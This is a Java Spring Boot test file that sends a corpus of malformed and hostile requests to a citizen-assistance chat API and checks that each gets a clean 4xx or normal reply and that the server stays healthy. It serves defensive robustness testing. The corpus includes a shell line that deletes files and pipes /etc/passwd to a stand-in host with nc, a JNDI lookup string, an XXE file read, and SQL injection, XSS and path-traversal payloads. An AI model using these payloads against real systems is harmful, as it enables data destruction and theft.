package org.civicassist.assistant.web;

import org.civicassist.assistant.testing.TestEmbedderConfiguration;
import org.civicassist.assistant.testing.TinyKbProperties;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Import;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What citizens, scanners and attackers send: every request below gets a clean answer — a 4xx
 * {@code application/problem+json} with a code, or a normal reply where the input is legal — never a 5xx, never a
 * stack trace; and the server stays healthy. Requests go over raw sockets so that any bytes can be sent.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@Import(TestEmbedderConfiguration.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputCorpusTest {

    @DynamicPropertySource
    static void tinyKb(DynamicPropertyRegistry registry) {
        TinyKbProperties.register(registry, TinyKbProperties.directory());
    }

    /** What a case may get back. */
    enum Expect {
        /** a 4xx problem+json with a code */
        PROBLEM,
        /** a 2xx reply (the input is legal) */
        REPLY,
        /** either: the input is legal or refused cleanly, depending on how lenient parsing is */
        CLEAN,
        /** refused by the HTTP server before the application (e.g. oversized headers): any 4xx, any body */
        HTTP_4XX
    }

    record Case(String name, String method, String path, Map<String, String> headers, byte[] body, Expect expect) {
        @Override
        public String toString() {
            return name;
        }
    }

    record Response(int status, String headers, String body) {
        String contentType() {
            Matcher m = Pattern.compile("(?im)^content-type:\\s*(.+)$").matcher(headers);
            return m.find() ? m.group(1).strip().toLowerCase(Locale.ROOT) : "";
        }
    }

    @LocalServerPort
    int port;
    String id;
    String token;

    static final String ID = "{id}";
    static final String TOKEN = "{token}";

    @BeforeAll
    void openConversation() throws IOException {
        Response opened = send("POST", "/api/v1/conversations", json(), "{}".getBytes(StandardCharsets.UTF_8));
        assertThat(opened.status()).isEqualTo(201);
        Matcher m = Pattern.compile("\"id\"\\s*:\\s*\"([^\"]+)\".*\"token\"\\s*:\\s*\"([^\"]+)\"").matcher(opened.body());
        assertThat(m.find()).isTrue();
        id = m.group(1);
        token = m.group(2);
    }

    static Map<String, String> json() {
        Map<String, String> h = new LinkedHashMap<>();
        h.put("Content-Type", "application/json");
        return h;
    }

    static Map<String, String> withToken(String contentType) {
        Map<String, String> h = new LinkedHashMap<>();
        if (contentType != null) {
            h.put("Content-Type", contentType);
        }
        h.put("X-Conversation-Token", TOKEN);
        return h;
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static Case message(String name, String body, Expect expect) {
        return new Case(name, "POST", "/api/v1/conversations/" + ID + "/messages", withToken("application/json"),
                utf8(body), expect);
    }

    /** A message whose text is given as the inside of a JSON string (JSON escapes allowed). */
    static Case text(String name, String jsonText, Expect expect) {
        return message(name, "{\"text\": \"" + jsonText + "\"}", expect);
    }

    static Stream<Case> corpus() {
        List<Case> c = new ArrayList<>();
        String messages = "/api/v1/conversations/" + ID + "/messages";
        // the text itself
        c.add(text("empty text", "", Expect.PROBLEM));
        c.add(text("whitespace only", " \\t\\n\u3000 ", Expect.PROBLEM));
        c.add(text("10,001 characters", "社".repeat(10_001), Expect.PROBLEM));
        c.add(text("control characters", "\\u0001\\u0007\\u001b[31m社保卡丢了怎么补办", Expect.CLEAN));
        c.add(text("zero-width characters", "社\u200b保\u200c卡\u200d丢了\ufeff怎么补办", Expect.REPLY));
        c.add(text("right-to-left override", "\u202e办补么怎了丢卡保社\u202c", Expect.CLEAN));
        c.add(text("HTML and script", "<script>alert('x')</script><img src=x onerror=alert(1)>社保卡丢了怎么补办",
                Expect.REPLY));
        c.add(text("SQL", "'; DROP TABLE conversations; -- OR 1=1", Expect.CLEAN));
        c.add(text("shell", "$(rm -rf /) `id` && cat /etc/passwd | nc evil 1", Expect.CLEAN));
        c.add(text("emoji flood", "😀🔥👍".repeat(300), Expect.CLEAN));
        c.add(text("template and log injection", "${jndi:ldap://evil/a} {{7*7}} %s%n\\n2026-01-01 ERROR forged",
                Expect.CLEAN));
        c.add(text("lone surrogate escape", "\\ud800社保卡", Expect.CLEAN));
        // the JSON around it
        c.add(message("invalid JSON", "{\"text\": ", Expect.PROBLEM));
        c.add(message("not JSON", "社保卡丢了怎么补办", Expect.PROBLEM));
        c.add(message("JSON array", "[\"社保卡\"]", Expect.PROBLEM));
        c.add(message("text is null", "{\"text\": null}", Expect.PROBLEM));
        c.add(message("text is a list", "{\"text\": [\"社保卡\"]}", Expect.PROBLEM));
        c.add(message("text is an object", "{\"text\": {\"$ne\": 1}}", Expect.PROBLEM));
        c.add(message("text is a number", "{\"text\": 12345}", Expect.CLEAN));
        c.add(message("empty body", "", Expect.PROBLEM));
        c.add(message("unknown fields", "{\"text\": \"社保卡丢了怎么补办\", \"admin\": true, \"__proto__\": {\"x\": 1}}",
                Expect.REPLY));
        c.add(message("deeply nested", "{\"text\": \"社保卡\", \"x\": " + "[".repeat(5000) + "]".repeat(5000) + "}",
                Expect.PROBLEM));
        c.add(message("two megabytes", "{\"text\": \"" + "a".repeat(2 << 20) + "\"}", Expect.PROBLEM));
        c.add(new Case("invalid UTF-8", "POST", messages, withToken("application/json"),
                new byte[] {'{', '"', 't', 'e', 'x', 't', '"', ':', '"', (byte) 0xff, (byte) 0xfe, (byte) 0xc3, '"',
                        '}'}, Expect.CLEAN));
        c.add(new Case("text/plain", "POST", messages, withToken("text/plain"), utf8("社保卡丢了怎么补办"),
                Expect.PROBLEM));
        c.add(new Case("form", "POST", messages, withToken("application/x-www-form-urlencoded"),
                utf8("text=%E7%A4%BE"), Expect.PROBLEM));
        c.add(new Case("xml", "POST", messages, withToken("application/xml"),
                utf8("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><text>&e;</text>"),
                Expect.PROBLEM));
        c.add(new Case("no content type", "POST", messages, withToken(null), utf8("{\"text\": \"社保卡\"}"),
                Expect.PROBLEM));
        // tokens and ids
        Map<String, String> noToken = json();
        c.add(new Case("missing token", "POST", messages, noToken, utf8("{\"text\": \"社保卡\"}"), Expect.PROBLEM));
        Map<String, String> wrong = json();
        wrong.put("X-Conversation-Token", "forged-token");
        c.add(new Case("wrong token", "POST", messages, wrong, utf8("{\"text\": \"社保卡\"}"), Expect.PROBLEM));
        Map<String, String> longToken = json();
        longToken.put("X-Conversation-Token", "x".repeat(4000));
        c.add(new Case("4,000-character token", "POST", messages, longToken, utf8("{\"text\": \"社保卡\"}"),
                Expect.PROBLEM));
        c.add(new Case("path traversal id", "POST", "/api/v1/conversations/..%2F..%2Fetc%2Fpasswd/messages",
                withToken("application/json"), utf8("{\"text\": \"社保卡\"}"), Expect.PROBLEM));
        c.add(new Case("dot-dot id", "GET", "/api/v1/conversations/../../etc/passwd", withToken(null), new byte[0],
                Expect.PROBLEM));
        // Netty refuses a request line this long before the application sees it: a bare 414
        c.add(new Case("5,000-character id", "GET", "/api/v1/conversations/" + "a".repeat(5000), withToken(null),
                new byte[0], Expect.HTTP_4XX));
        c.add(new Case("NUL in id", "GET", "/api/v1/conversations/abc%00def", withToken(null), new byte[0],
                Expect.PROBLEM));
        c.add(new Case("redis-like id", "GET", "/api/v1/conversations/*", withToken(null), new byte[0],
                Expect.PROBLEM));
        // other endpoints
        c.add(new Case("transcript with a wrong token", "GET", "/api/v1/conversations/" + ID,
                Map.of("X-Conversation-Token", "nope"), new byte[0], Expect.PROBLEM));
        c.add(new Case("rating out of range", "POST", "/api/v1/conversations/" + ID + "/feedback",
                withToken("application/json"), utf8("{\"rating\": 99}"), Expect.PROBLEM));
        c.add(new Case("rating of the wrong type", "POST", "/api/v1/conversations/" + ID + "/feedback",
                withToken("application/json"), utf8("{\"rating\": \"great\"}"), Expect.PROBLEM));
        c.add(new Case("feedback on an unknown message", "POST", "/api/v1/conversations/" + ID + "/feedback",
                withToken("application/json"), utf8("{\"message_id\": \"../../x\", \"useful\": false}"),
                Expect.PROBLEM));
        c.add(new Case("handoff contact of 10,000 characters", "POST", "/api/v1/conversations/" + ID + "/handoff",
                withToken("application/json"), utf8("{\"contact\": \"" + "1".repeat(10_000) + "\"}"),
                Expect.PROBLEM));
        c.add(new Case("staff login with markup", "POST", "/api/v1/staff/login", json(),
                utf8("{\"username\": \"<script>alert(1)</script>\", \"password\": \"' OR '1'='1\"}"), Expect.PROBLEM));
        c.add(new Case("staff login not JSON", "POST", "/api/v1/staff/login", json(), utf8("admin:admin"),
                Expect.PROBLEM));
        c.add(new Case("staff API with a malformed bearer", "GET", "/api/v1/staff/queue",
                Map.of("Authorization", "Bearer " + "\u00e9".repeat(10)), new byte[0], Expect.PROBLEM));
        c.add(new Case("admin API without its key", "GET", "/api/v1/admin/analytics", Map.of(), new byte[0],
                Expect.PROBLEM));
        c.add(new Case("unsupported method", "PATCH", "/api/v1/conversations", json(), utf8("{}"), Expect.PROBLEM));
        c.add(new Case("unknown path", "GET", "/api/v1/../../../../etc/passwd", Map.of(), new byte[0],
                Expect.PROBLEM));
        Map<String, String> hugeHeader = json();
        hugeHeader.put("X-Filler", "a".repeat(64 * 1024));
        c.add(new Case("64 KB header", "POST", "/api/v1/conversations", hugeHeader, utf8("{}"), Expect.HTTP_4XX));
        return c.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void is_answered_cleanly(Case c) throws IOException {
        Map<String, String> headers = new LinkedHashMap<>();
        c.headers().forEach((k, v) -> headers.put(k, v.replace(TOKEN, token)));
        Response r = send(c.method(), c.path().replace(ID, id), headers, c.body());

        assertThat(r.status()).as("%s: %s", c.name(), r.body()).isBetween(200, 499);
        assertThat(r.body()).as(c.name()).doesNotContain("Exception", "\tat ", "at org.", "at java.",
                "<script>");
        switch (c.expect()) {
            case PROBLEM -> problem(c, r);
            case REPLY -> reply(c, r);
            case CLEAN -> {
                if (r.status() >= 400) {
                    problem(c, r);
                } else {
                    reply(c, r);
                }
            }
            case HTTP_4XX -> assertThat(r.status()).as(c.name()).isBetween(400, 499);
        }
    }

    static void problem(Case c, Response r) {
        assertThat(r.status()).as("%s: %s", c.name(), r.body()).isBetween(400, 499);
        assertThat(r.contentType()).as("%s: %s %s", c.name(), r.headers(), r.body())
                .startsWith("application/problem+json");
        assertThat(r.body()).as(c.name()).contains("\"code\"", "\"detail_zh\"", "\"detail_en\"");
    }

    static void reply(Case c, Response r) {
        assertThat(r.status()).as("%s: %s", c.name(), r.body()).isBetween(200, 299);
        assertThat(r.body()).as(c.name()).contains("\"reply\"", "\"type\"");
    }

    @AfterAll
    void theServerIsStillHealthy() throws IOException {
        assertThat(send("GET", "/actuator/health", Map.of(), new byte[0]).body()).contains("\"UP\"");
        // a fresh conversation: the corpus's may have been handed to people by now
        openConversation();
        Response answer = send("POST", "/api/v1/conversations/" + id + "/messages",
                withToken("application/json").entrySet().stream().collect(LinkedHashMap::new,
                        (m, e) -> m.put(e.getKey(), e.getValue().replace(TOKEN, token)), Map::putAll),
                utf8("{\"text\": \"社保卡丢了怎么补办\"}"));
        assertThat(answer.status()).as(answer.body()).isIn(200);
        assertThat(answer.body()).contains("\"type\":\"answer\"");
    }

    @Test
    void the_corpus_is_not_empty() {
        assertThat(corpus().count()).isGreaterThan(40);
    }

    Response send(String method, String path, Map<String, String> headers, byte[] body) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            socket.setSoTimeout(30_000);
            StringBuilder head = new StringBuilder(method + " " + path + " HTTP/1.1\r\nHost: localhost\r\n"
                    + "Connection: close\r\n");
            headers.forEach((k, v) -> head.append(k).append(": ").append(v).append("\r\n"));
            if (body.length > 0 || method.equals("POST") || method.equals("PATCH")) {
                head.append("Content-Length: ").append(body.length).append("\r\n");
            }
            head.append("\r\n");
            socket.getOutputStream().write(head.toString().getBytes(StandardCharsets.UTF_8));
            try {
                socket.getOutputStream().write(body);
                socket.getOutputStream().flush();
            } catch (IOException refusedEarly) {
                // the server may answer (and close) before reading a refused body
            }
            byte[] all = readAll(socket.getInputStream());
            String text = new String(all, StandardCharsets.UTF_8);
            int split = text.indexOf("\r\n\r\n");
            String responseHead = split < 0 ? text : text.substring(0, split);
            String responseBody = split < 0 ? "" : text.substring(split + 4);
            Matcher status = Pattern.compile("^HTTP/1\\.1 (\\d{3})").matcher(responseHead);
            assertThat(status.find()).as("a status line for %s %s: %s", method, path, responseHead).isTrue();
            return new Response(Integer.parseInt(status.group(1)), responseHead, responseBody);
        }
    }

    static byte[] readAll(InputStream in) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buf = new byte[8192];
        try {
            for (int n = in.read(buf); n >= 0; n = in.read(buf)) {
                out.write(buf, 0, n);
            }
        } catch (IOException reset) {
            // a server that closes after refusing may reset the connection: keep what arrived
        }
        return out.toByteArray();
    }
}
